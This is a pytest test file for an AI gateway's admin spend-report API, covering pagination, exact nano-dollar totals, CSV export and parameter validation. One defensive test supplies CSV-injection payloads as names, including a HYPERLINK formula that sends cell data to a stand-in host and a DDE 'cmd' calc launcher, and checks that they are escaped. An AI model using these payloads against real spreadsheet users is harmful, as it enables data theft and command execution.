"""GET /admin/spend as an operator reads it: a report cut at ``limit`` rows says so, and its total is the whole bill,
exact to the nano-dollar. On SQLite and PostgreSQL (a schema of the test's own, dropped after it)."""

from __future__ import annotations

import csv
import io
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from aigw import errors
from aigw.http.admin_guard import Download, guarded
from aigw.http.admin_spend import SpendApi
from aigw.http.auth import Authenticator
from aigw.http.request import HttpRequest
from aigw.pipeline.context import Principal
from aigw.stores.base import NANO, ApiKey, Project, SpendRecord, Tenant
from aigw.stores.database import SqlDatabase, open_database
from tests.support.services import RUN_ID, pg_execute, postgres_dsn
from tests.unit.http.admin_support import admin_api, migrated_db

MASTER = Principal(key_id="master", is_admin=True)
MASTER_KEY = "sk-spend-master"
COSTS = {"key_a": 3_000_000_000, "key_b": 2_000_000_000, "key_c": 1_000_000_000}  # $3, $2, $1


@pytest.fixture(params=["sqlite", "postgres"])
async def store(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[SqlDatabase]:
    if request.param == "sqlite":
        db = await migrated_db(tmp_path)
    else:
        dsn, schema = postgres_dsn(), f"aigw_test_{RUN_ID}_{uuid.uuid4().hex[:6]}"
        await pg_execute(dsn, f'CREATE SCHEMA "{schema}"')
        db = open_database(f"{dsn}?search_path={schema}")
    try:
        if request.param == "postgres":
            await db.open()
            await db.migrate()
        yield db
    finally:
        await db.close()
        if request.param == "postgres":
            await pg_execute(dsn, f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')


async def _write(db: SqlDatabase, costs: dict[str, int]) -> None:
    now = time.time()
    await db.write([SpendRecord(request_id=f"req_{k}", id=f"sp_{k}", ts_start=now, ts_end=now, tenant_id="ten_a",
                                project_id="prj_a", key_id=k, model="m", cost_nano=c) for k, c in costs.items()])


@pytest.fixture
async def api(store: SqlDatabase) -> SpendApi:
    await _write(store, COSTS)
    return SpendApi(admin_api(store))


async def _report(api: SpendApi, query: str) -> dict[str, Any]:
    req = HttpRequest({"method": "GET", "path": "/admin/spend", "query_string": query.encode(), "headers": []}, None)
    status, body = await api.spend(req, MASTER)
    assert status == 200 and isinstance(body, dict)
    return body


async def test_a_report_cut_at_its_limit_says_so_and_totals_the_whole_bill(api: SpendApi) -> None:
    cut = await _report(api, "group_by=key&limit=2")
    assert [r["key"] for r in cut["data"]] == ["key_a", "key_b"] and cut["has_more"] is True
    assert cut["total_cost_usd"] == 6.0  # not the $5 of the two rows shown


async def test_a_whole_report_has_no_more(api: SpendApi) -> None:
    whole = await _report(api, "group_by=key")
    assert len(whole["data"]) == 3 and whole["has_more"] is False and whole["total_cost_usd"] == 6.0


async def test_projects_and_tenants_are_named_beside_their_ids(api: SpendApi) -> None:
    db = api.admin.db
    await db.add_tenant(Tenant("ten_a", "acme"))
    await db.add_project(Project("prj_a", "ten_a", "search"))
    [by_project] = (await _report(api, "group_by=project"))["data"]
    assert (by_project["project"], by_project["project_name"]) == ("prj_a", "search")
    [by_tenant] = (await _report(api, "group_by=tenant"))["data"]
    assert (by_tenant["tenant"], by_tenant["tenant_name"]) == ("ten_a", "acme")
    csv_status, download = await api.spend(HttpRequest(
        {"method": "GET", "path": "/admin/spend", "query_string": b"group_by=tenant&format=csv", "headers": []},
        None), MASTER)
    assert csv_status == 200 and isinstance(download, Download)
    assert download.body.decode().startswith("tenant,tenant_name,requests,")



# beyond 2**53 nano-dollars (~$9M) a float no longer holds every nano: cost_usd * 1e9 is a few nanos off
BIG = {"key_x": 12_345_678_901_234_567, "key_y": 9_007_199_254_740_993, "key_z": 7}


@pytest.mark.parametrize("query", ["group_by=key", "group_by=key&limit=1", "group_by=model"])
async def test_the_total_is_the_exact_sum_of_the_rollups_nano_dollars(store: SqlDatabase, query: str) -> None:
    """Rows carry their rollups' ``cost_nano`` (an integer) and the total is its sum, not floats rounded back."""
    await _write(store, BIG)
    report = await _report(SpendApi(admin_api(store)), query)
    exact = sum(BIG.values())
    assert report["total_cost_nano"] == exact and report["total_cost_usd"] == exact / NANO
    if "limit" not in query:
        assert sum(r["cost_nano"] for r in report["data"]) == exact
    for row in report["data"]:
        assert type(row["cost_nano"]) is int and row["cost_usd"] == row["cost_nano"] / NANO
    if query == "group_by=key":
        assert {r["key"]: r["cost_nano"] for r in report["data"]} == BIG


async def test_the_csv_writes_each_rows_dollars_from_its_nano_dollars(store: SqlDatabase) -> None:
    await _write(store, {**BIG, "key_x": 21_352_878_155_975_560})  # as a float, 21352878.155975562
    status, download = await SpendApi(admin_api(store)).spend(HttpRequest(
        {"method": "GET", "path": "/admin/spend", "query_string": b"group_by=key&format=csv", "headers": []},
        None), MASTER)
    assert status == 200 and isinstance(download, Download)
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(download.body.decode()))}
    assert rows["key_x"]["cost_usd"] == "21352878.155975560" and rows["key_x"]["cost_nano"] == "21352878155975560"
    assert rows["key_z"]["cost_usd"] == "0.000000007"


async def _get(api: SpendApi, query: bytes) -> tuple[int, dict[str, str], bytes]:
    """``GET /admin/spend?query`` with the master key, as the client sees it: status, headers, body."""
    scope = {"type": "http", "method": "GET", "path": "/admin/spend", "query_string": query,
             "headers": [(b"authorization", f"Bearer {MASTER_KEY}".encode())]}
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    await guarded(Authenticator(MASTER_KEY), api.spend)(HttpRequest(scope, None), send)
    headers = {k.decode(): v.decode() for k, v in sent[0]["headers"]}
    return sent[0]["status"], headers, b"".join(m.get("body", b"") for m in sent[1:])


@pytest.fixture
async def sqlite_api(tmp_path: Path) -> AsyncIterator[SpendApi]:
    db = await migrated_db(tmp_path)
    try:
        await _write(db, COSTS)
        yield SpendApi(admin_api(db))
    finally:
        await db.close()


@pytest.mark.parametrize(("query", "param", "words"), [
    (b"from=2026-11-01", "from", "did you mean `since`?"),  # read as absent: the whole history
    (b"to=2026-11-30", "to", "did you mean `until`?"),
    (b"groupby=model", "groupby", "known: group_by, tenant, project, key, model, since, until, limit, format"),
    (b"group_by=key&tenants=acme", "tenants", "unknown parameter"),  # every tenant's bill, not acme's
    (b"since=", "since", "empty"),
    (b"tenant=", "tenant", "empty"),
    (b"group_by=%20", "group_by", "empty"),
    (b"limit", "limit", "empty"),
    (b"tenant=ten_a&tenant=ten_b", "tenant", "given twice"),  # the last one won
    (b"since=2026-11-01&until=2026-11-30&since=2026-10-01", "since", "given twice"),
])
async def test_a_parameter_that_would_be_ignored_is_a_400_naming_it(sqlite_api: SpendApi, query: bytes, param: str,
                                                                   words: str) -> None:
    status, headers, body = await _get(sqlite_api, query)
    error = orjson.loads(body)["error"]
    assert (status, headers["content-type"], error["type"], error["param"]) == (
        400, "application/json", "invalid_request_error", param)
    assert error["message"].startswith(f"{param}: ") and words in error["message"], error["message"]


async def test_the_model_filter_reports_that_models_spend_only(store: SqlDatabase) -> None:
    await _write(store, COSTS)  # model "m"
    now = time.time()
    await store.write([SpendRecord(request_id="req_o", id="sp_o", ts_start=now, ts_end=now, tenant_id="ten_a",
                                   project_id="prj_a", key_id="key_a", model="gpt-4o", cost_nano=500_000_000),
                       SpendRecord(request_id="req_s", id="sp_s", ts_start=now, ts_end=now, tenant_id="ten_a",
                                   project_id="prj_a", key_id="key_b", model="alias", served_model="gpt-4o",
                                   cost_nano=250_000_000)])  # billed to the model that served it
    api = SpendApi(admin_api(store))
    by_key = await _report(api, "group_by=key&model=gpt-4o")
    assert {r["key"]: r["cost_nano"] for r in by_key["data"]} == {"key_a": 500_000_000, "key_b": 250_000_000}
    assert by_key["total_cost_nano"] == 750_000_000
    [only] = (await _report(api, "group_by=model&model=m"))["data"]
    assert (only["model"], only["requests"], only["cost_nano"]) == ("m", 3, 6_000_000_000)
    assert (await _report(api, "model=no-such-model"))["data"] == []  # a model no longer served may have a bill


async def test_a_csv_cut_at_its_limit_says_so_in_its_headers(store: SqlDatabase) -> None:
    await _write(store, COSTS)
    api = SpendApi(admin_api(store))
    status, headers, body = await _get(api, b"group_by=key&format=csv&limit=2")
    assert (status, headers["content-type"]) == (200, "text/csv; charset=utf-8")
    assert [r["key"] for r in csv.DictReader(io.StringIO(body.decode()))] == ["key_a", "key_b"]
    assert headers["x-aigw-has-more"] == "true" and headers["x-aigw-total-cost-nano"] == "6000000000"  # not $5
    status, headers, body = await _get(api, b"group_by=key&format=csv&model=m")
    assert len(list(csv.DictReader(io.StringIO(body.decode())))) == 3
    assert headers["x-aigw-has-more"] == "false" and headers["x-aigw-total-cost-nano"] == "6000000000"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.test/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
async def test_a_name_a_spreadsheet_would_run_as_a_formula_is_text_in_the_csv(store: SqlDatabase, name: str) -> None:
    """A tenant admin names its keys and projects; opened in a spreadsheet, ``=HYPERLINK(...)`` in the master's
    CSV ran as a formula (CSV injection). Such a cell now starts with ``'``; the JSON report keeps the name."""
    await store.add_tenant(Tenant("ten_a", name))
    await store.add_project(Project("prj_a", "ten_a", name))
    await store.add_key(ApiKey(id="key_a", tenant_id="ten_a", project_id="prj_a", key_hash="h", prefix="sk-aigw-abcd",
                               name=name))
    await _write(store, {"key_a": 1})
    api = SpendApi(admin_api(store))
    for group, column in (("key", "key_name"), ("project", "project_name"), ("tenant", "tenant_name")):
        status, download = await api.spend(HttpRequest(
            {"method": "GET", "path": "/admin/spend", "query_string": f"group_by={group}&format=csv".encode(),
             "headers": []}, None), MASTER)
        assert status == 200 and isinstance(download, Download)
        [row] = csv.DictReader(io.StringIO(download.body.decode(), newline=""))
        assert row[column] == "'" + name, group
        assert row["cost_usd"] == "0.000000001"  # numbers stay numbers
        assert (await _report(api, f"group_by={group}"))["data"][0][column] == name


async def test_the_master_keys_own_row_can_be_filtered_as_the_request_log_can(store: SqlDatabase) -> None:
    """The bill by key lists the master key's own calls as the key `master` (no tenant), but ``?key=master`` was
    a 404 "No key `master`", so its calls could not be broken down by model or day (``/admin/requests?key_id=master``
    reads them); a tenant admin naming it still gets that 404, as for any key not its tenant's."""
    now = time.time()
    await store.write([SpendRecord(request_id="req_m", id="sp_m", ts_start=now, ts_end=now, key_id="master",
                                   model="m", cost_nano=7)])
    await _write(store, {"key_a": 5})
    api = SpendApi(admin_api(store))
    assert [r["key"] for r in (await _report(api, "group_by=key"))["data"]] == ["master", "key_a"]
    mine = await _report(api, "group_by=model&key=master")
    assert [(r["model"], r["cost_nano"]) for r in mine["data"]] == [("m", 7)] and mine["total_cost_nano"] == 7
    req = HttpRequest({"method": "GET", "path": "/admin/spend", "query_string": b"key=master", "headers": []}, None)
    with pytest.raises(errors.NotFound):
        await api.spend(req, Principal(key_id="key_a", tenant_id="ten_a", is_admin=True))


async def test_the_csv_columns_are_the_same_with_rows_or_without(store: SqlDatabase) -> None:
    """A script reads the CSV by its header, or by position: an empty report's header lacked ``cache_write_tokens``
    and ``cost_nano``, so a day's file without traffic had other columns than the day before."""
    await _write(store, COSTS)
    api = SpendApi(admin_api(store))
    for group in ("key", "project", "tenant", "model", "day"):
        _, _, full = await _get(api, f"group_by={group}&format=csv".encode())
        _, _, empty = await _get(api, f"group_by={group}&format=csv&model=no-such-model".encode())
        header = full.decode().split("\r\n")[0]
        assert empty.decode() == header + "\r\n", group
        assert header.endswith(",cost_usd,cost_saved_usd,cache_write_tokens,cost_nano"), group
